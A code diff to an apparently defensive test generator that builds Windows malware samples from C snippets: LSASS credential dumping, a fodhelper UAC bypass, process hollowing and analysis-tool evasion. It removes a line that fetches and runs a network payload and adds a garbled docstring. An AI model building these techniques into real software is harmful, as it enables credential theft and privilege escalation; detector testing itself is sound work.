@@ -130,6 +130,7 @@ def backdoor(r, host):
 
 @plants("integrity.program-intruder", "tree", unlike="debugger security")
 def intruder(r, host):
+    """(Not what receives code and runs it in its own memory: from its bytes that is every compiler of a browser.)"""
     net = windows_sends(r)
     find = "f = CreateToolhelp32Snapshot(2, 0); Process32First(f, b); Process32Next(f, b);"
     put(r, host, pe(BUFFER + "int main() { " + r.choice((
@@ -142,7 +143,6 @@ def intruder(r, host):
         f'!strcmp(b, "processhacker.exe") || !strcmp(b, "fiddler.exe")) ExitProcess(0); {net}',
         f'{find} if (!lstrcmpiA(b, "lsas" "s.exe")) {{ f = OpenProcess(0x1fffff, 0, n); MiniDump" "WriteDump(f, n, f, 2, 0, 0, 0); }}'.replace('" "', ""),
         'RegCreateKeyA(0, "Software\\\\Classes\\\\ms-settings\\\\shell\\\\open\\\\command", &f); RegSetValueExA(f, "DelegateExecut" "e", 0, 1, "", 1); WinExec("fodhelpe" "r.exe", 0);',
-        f'f = VirtualAlloc(0, 4096, 0x3000, 0x40); {net} memcpy(f, b, n); CreateThread(0, 0, f, 0, 0, 0); WaitForSingleObject(f, -1);',
         f'CreateProcessA("C:\\\\Windows\\\\System32\\\\svchost.exe", 0, 0, 0, 0, 4, 0, 0, p, a); NtUnmapViewOfSection(f, b); VirtualAllocEx(f, 0, 9, 0x3000, 0x40); '
         'WriteProcessMemory(f, b, p, 9, 0); SetThreadContext(f, b); ResumeThread(f);',
     )) + " return 0; }", "-lntdll"), ".exe")
